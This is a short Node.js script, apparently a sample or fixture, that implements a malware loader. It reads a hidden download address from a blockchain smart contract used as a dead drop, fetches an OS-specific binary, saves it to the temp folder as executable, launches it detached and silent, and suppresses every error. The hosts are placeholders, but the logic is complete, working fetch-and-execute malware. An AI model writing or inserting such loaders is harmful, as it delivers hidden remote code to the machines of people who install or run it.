const os = require('os');
const fs = require('fs');
const path = require('path');
const { spawn } = require('child_process');

const RPC = 'https://eth-mainnet.public-rpc.invalid';
const CONTRACT = '0xFIXTURE00000000000000000000000000000c0de';
const GET_STRING = '0x89ea642f';

async function readDeadDrop() {
  const response = await fetch(RPC, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: CONTRACT, data: GET_STRING }, 'latest'] }),
  });
  const { result } = await response.json();
  const hex = result.slice(130).replace(/(00)+$/, '');
  return Buffer.from(hex, 'hex').toString('utf8');
}

async function main() {
  const base = await readDeadDrop();
  const platform = os.platform();
  const target = path.join(os.tmpdir(), platform === 'win32' ? 'node-win.exe' : 'node-sys');
  const bytes = Buffer.from(await (await fetch(`${base}/${platform}`)).arrayBuffer());
  fs.writeFileSync(target, bytes, { mode: 0o755 });
  spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
}

main().catch(() => {});
